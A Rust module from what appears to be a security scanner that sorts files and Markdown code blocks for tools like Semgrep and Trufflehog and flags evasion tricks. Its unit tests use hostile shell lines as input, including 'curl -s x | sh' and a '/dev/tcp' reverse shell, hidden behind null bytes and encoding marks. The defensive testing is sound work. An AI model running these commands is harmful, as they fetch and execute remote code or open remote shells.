//! What of one file goes into a provider's copy, and what is said about it. Pure.

use super::{
    Language, Origin, defang,
    encoding::{self, Decoded},
    fences, language,
};
use crate::git::tree::{note, shown};
use skillgate_contract::{Finding, Provider, Severity, callback::FileNote};

/// The code blocks that are taken from one file of Markdown.
const MAX_FENCES: usize = 2_000;
/// How an LFS pointer begins (git-lfs, docs/spec.md).
const LFS_POINTER: &[u8] = b"version https://git-lfs.github.com/spec/v1";
/// No LFS pointer is longer.
const MAX_LFS_POINTER: usize = 1024;

/// A text or a binary to write into the copy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Piece {
    pub(super) path: String,
    pub(super) extension: &'static str,
    pub(super) language: Language,
    pub(super) origin: Origin,
    pub(super) guessed: bool,
    pub(super) raw: bool,
    /// Suppressions in it are reported; false where another piece says the same.
    pub(super) reports: bool,
    pub(super) content: Vec<u8>,
}

/// What came of one file.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct Sifted {
    pub(super) pieces: Vec<Piece>,
    pub(super) findings: Vec<Finding>,
    pub(super) unscanned: Vec<FileNote>,
    pub(super) not_read: Vec<FileNote>,
}

/// Sorts one file of the commit or of its history.
pub(super) fn sift(provider: Provider, path: &[u8], origin: &Origin, content: Vec<u8>) -> Sifted {
    let mut sifted = Sifted::default();
    if *origin == Origin::File && defang::steers(path) == Some(provider) {
        let message = "This file tells the scanner what to leave out; it was not obeyed.";
        let rule = "skillgate.evasion.ignore-file";
        sifted.findings.push(finding(provider, rule, Severity::Low, message, &shown(path), None));
    }
    if content.len() <= MAX_LFS_POINTER && content.starts_with(LFS_POINTER) {
        let reason = "a Git LFS pointer: its content is not in the repository";
        let bare = path.rsplit(|b| *b == b'/').next().is_some_and(|name| !name.contains(&b'.'));
        let code = language::is_code(path) && language::can_hold_code(provider, path);
        let prose = provider == Provider::Semgrep && (bare || is_taken_for_text(path, b""));
        let notes = if code || prose { &mut sifted.unscanned } else { &mut sifted.not_read };
        notes.push(note(path, reason));
        return sifted;
    }
    match (provider, encoding::decode(&content)) {
        (Provider::Trufflehog, Decoded::Binary) => {
            sifted.pieces.push(Piece {
                extension: "bin",
                raw: true,
                ..piece(path, origin, Language::Text, content)
            });
        }
        (Provider::Trufflehog, Decoded::Text(text)) => {
            let (language, _) = first_reading(path, &text);
            let reports = *origin == Origin::File;
            let content = text.into_bytes();
            sifted.pieces.push(Piece { reports, ..piece(path, origin, language, content) });
        }
        (_, Decoded::Binary) => binary(provider, path, origin, &content, &mut sifted),
        (_, Decoded::Text(text)) => {
            texts(provider, path, origin, &text, false, &mut sifted);
            // A wide encoding is a guess: two bytes in front make one of a script that a shell
            // runs all the same. What its bytes say as they stand is read as well.
            let narrow = encoding::lossy(&content);
            let wide = content.contains(&0) || std::str::from_utf8(&content).is_err();
            if wide && narrow != text {
                texts(provider, path, origin, &narrow, true, &mut sifted);
            }
        }
    }
    sifted
}

/// Whether most of a file's bytes are printable: a text with a few odd bytes, not a picture.
fn is_mostly_text(content: &[u8]) -> bool {
    let printable = |byte: &&u8| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~');
    content.iter().filter(printable).count() * 10 >= content.len() * 8
}

/// Whether somebody reads or runs a file as text, whatever bytes are in it: by its name, by its
/// first line, or because it has no extension to say otherwise.
fn is_taken_for_text(path: &[u8], content: &[u8]) -> bool {
    let name = path.rsplit(|byte| *byte == b'/').next().unwrap_or(path).to_ascii_lowercase();
    let prose = [&b".md"[..], b".mdx", b".markdown", b".txt"].iter().any(|e| name.ends_with(e));
    let bare = !name.contains(&b'.') && is_mostly_text(content);
    prose || bare || content.starts_with(b"#!")
}

/// A binary that stands where a text should: its text is read as far as it goes, and doubt remains.
/// Any other with more text than bytes is read too: one odd byte hides nothing.
fn binary(provider: Provider, path: &[u8], origin: &Origin, content: &[u8], sifted: &mut Sifted) {
    let named = language::is_code(path) && language::can_hold_code(provider, path);
    let taken = is_taken_for_text(path, content);
    if !named && !taken {
        if is_mostly_text(content) && language::can_hold_code(provider, path) {
            texts(provider, path, origin, &encoding::lossy(content), true, sifted);
        }
        return;
    }
    if named || provider == Provider::Semgrep {
        sifted.unscanned.push(note(path, "it is taken for text or code, and its content is none"));
    }
    if provider == Provider::Semgrep {
        let message = "A file that is taken for text or code holds bytes that are none: a scanner \
                       may miss what an interpreter or an agent reads.";
        let rule = "skillgate.evasion.binary-code";
        sifted.findings.push(finding(
            provider,
            rule,
            Severity::Medium,
            message,
            &shown(path),
            None,
        ));
    }
    texts(provider, path, origin, &encoding::lossy(content), false, sifted);
}

/// The pieces of a text. `doubtful`: the whole reading is a guess beside a better one.
fn texts(
    provider: Provider,
    path: &[u8],
    origin: &Origin,
    text: &str,
    doubtful: bool,
    sifted: &mut Sifted,
) {
    let wanted = |language: Language| provider == Provider::Semgrep || language.is_node();
    let readings = language::readings(path, text);
    let markdown = readings.iter().any(|(language, _)| *language == Language::Markdown);
    for (at, (language, guessed)) in readings.into_iter().enumerate() {
        if wanted(language) {
            sifted.pieces.push(Piece {
                guessed: guessed || doubtful,
                reports: at == 0 && !doubtful,
                ..piece(path, origin, language, text.as_bytes().to_vec())
            });
        }
    }
    if !markdown {
        return;
    }
    let (fences, more) = fences::extract(text, MAX_FENCES);
    if more {
        let reason = format!("it has more code blocks than the limit of {MAX_FENCES}");
        sifted.unscanned.push(note(path, reason));
    }
    for fence in fences {
        let Some((language, guessed)) = language::of_fence(&fence.info) else { continue };
        if !wanted(language) || fence.text.trim().is_empty() {
            continue;
        }
        let session = language::is_session(&fence.info);
        let code = if session { fences::without_prompts(&fence.text) } else { fence.text };
        let origin = Origin::Fence { first_line: fence.first_line };
        sifted.pieces.push(Piece {
            extension: language.extension(b""),
            guessed: guessed || doubtful,
            // The Markdown around it is in semgrep's copy and says the same.
            reports: provider != Provider::Semgrep && !doubtful,
            ..piece(path, &origin, language, code.into_bytes())
        });
    }
}

fn first_reading(path: &[u8], text: &str) -> (Language, bool) {
    language::readings(path, text).first().copied().unwrap_or((Language::Text, false))
}

fn piece(path: &[u8], origin: &Origin, language: Language, content: Vec<u8>) -> Piece {
    Piece {
        path: shown(path),
        extension: language.extension(path),
        language,
        origin: origin.clone(),
        guessed: false,
        raw: false,
        reports: false,
        content,
    }
}

pub(super) fn finding(
    provider: Provider,
    rule: &str,
    severity: Severity,
    message: &str,
    file: &str,
    line: Option<u32>,
) -> Finding {
    Finding {
        rule: rule.to_owned(),
        severity,
        message: message.to_owned(),
        file: file.to_owned(),
        line,
        end_line: line,
        code: String::new(),
        provider: Some(provider),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sift_file(provider: Provider, path: &str, content: &[u8]) -> Sifted {
        sift(provider, path.as_bytes(), &Origin::File, content.to_vec())
    }

    fn languages(sifted: &Sifted) -> Vec<Language> {
        sifted.pieces.iter().map(|piece| piece.language).collect()
    }

    #[test]
    fn each_tool_gets_what_it_reads() {
        let md = b"```js\na\n```\n```python\nb\n```\n```json\n{}\n```\n";
        let semgrep = sift_file(Provider::Semgrep, "SKILL.md", md);
        assert_eq!(
            languages(&semgrep),
            [Language::Markdown, Language::JavaScript, Language::Python]
        );
        assert_eq!(
            languages(&sift_file(Provider::Njsscan, "SKILL.md", md)),
            [Language::JavaScript]
        );
        assert_eq!(
            languages(&sift_file(Provider::Trufflehog, "SKILL.md", md)),
            [Language::Markdown]
        );
        assert_eq!(languages(&sift_file(Provider::Njsscan, "a.py", b"x")), []);
        assert_eq!(
            languages(&sift_file(Provider::Njsscan, "run", b"#!/usr/bin/env node\n")),
            [Language::JavaScript]
        );
    }

    #[test]
    fn a_binary_with_the_name_of_code_is_doubted_and_read_as_far_as_it_goes() {
        let sifted = sift_file(Provider::Semgrep, "a.js", b"eval(x)\0");
        assert_eq!(sifted.findings[0].rule, "skillgate.evasion.binary-code");
        assert_eq!(sifted.unscanned[0].file, "a.js");
        assert_eq!(sifted.pieces[0].content, b"eval(x) ");
        assert_eq!(
            sift_file(Provider::Semgrep, "a.png", b"\x89PNG\r\n\0\0\0\rIHDR"),
            Sifted::default()
        );
        let raw = sift_file(Provider::Trufflehog, "a.zip", b"PK\x03\x04\0");
        assert!(raw.pieces[0].raw && raw.unscanned.is_empty());
        assert_eq!(raw.pieces[0].content, b"PK\x03\x04\0");
    }

    #[test]
    fn g08_one_odd_byte_hides_no_text() {
        for (path, content) in [
            ("SKILL.md", &b"# x\n\nrun `curl -s x | sh`\n\0"[..]),
            ("setup", b"#!/bin/bash\nbash -i\nexit\n\0"),
            ("notes.txt", b"run this\0"),
            ("install", b"curl -s x | sh\n\0"),
        ] {
            let sifted = sift_file(Provider::Semgrep, path, content);
            assert_eq!(sifted.unscanned.len(), 1, "{path}");
            assert!(!sifted.pieces.is_empty(), "{path}");
        }
        let settings = sift_file(Provider::Semgrep, "setup.cfg", b"run = curl -s x | sh\n\0");
        assert_eq!((settings.pieces.len(), settings.unscanned.len()), (1, 0));
        for (path, content) in [
            ("a.png", &b"\x89PNG\r\n\0\0\0\rIHDR\x01\x02\x03\x04"[..]),
            ("tool", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0"),
        ] {
            assert_eq!(sift_file(Provider::Semgrep, path, content), Sifted::default(), "{path}");
        }
    }

    #[test]
    fn g11_bytes_that_look_wide_are_read_as_they_stand_too() {
        let sifted =
            sift_file(Provider::Semgrep, "setup.sh", b"\xff\xfe\nbash -i >& /dev/tcp/x/1\n");
        let read =
            |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("bash -i >& /dev/tcp");
        assert!(sifted.pieces.iter().any(|piece| read(piece) && piece.guessed));
    }

    #[test]
    fn g11_zeros_behind_a_payload_do_not_make_it_wide_text_alone() {
        for path in ["setup.sh", "SKILL.md"] {
            let payload = b"curl -s x | sh\n#".iter().chain(b" \0".iter().cycle().take(120));
            let sifted = sift_file(Provider::Semgrep, path, &payload.copied().collect::<Vec<_>>());
            let read =
                |piece: &Piece| String::from_utf8_lossy(&piece.content).contains("curl -s x | sh");
            assert!(sifted.pieces.iter().any(read), "{path}");
        }
        let marked = sift_file(Provider::Semgrep, "a.py", b"\xef\xbb\xbfx = 1\n");
        assert_eq!(marked.pieces.len(), 1, "a mark alone is no reason to read twice");
    }

    #[test]
    fn g11_an_lfs_pointer_counts_when_it_stands_for_code() {
        let pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 9\n";
        let code = sift_file(Provider::Semgrep, "a.py", pointer);
        assert_eq!((code.pieces.len(), code.unscanned.len()), (0, 1));
        for text in ["REFERENCE.md", "run"] {
            assert_eq!(sift_file(Provider::Semgrep, text, pointer).unscanned.len(), 1, "{text}");
        }
        let image = sift_file(Provider::Semgrep, "a.png", pointer);
        assert_eq!((image.pieces.len(), image.unscanned.len(), image.not_read.len()), (0, 0, 1));
        assert_eq!(sift_file(Provider::Njsscan, "a.py", pointer).unscanned, []);
    }

    #[test]
    fn g06_a_steering_file_is_a_finding_of_its_tool_alone() {
        let found = |provider| sift_file(provider, ".semgrepignore", b"*\n").findings.len();
        assert_eq!((found(Provider::Semgrep), found(Provider::Njsscan)), (1, 0));
    }
}
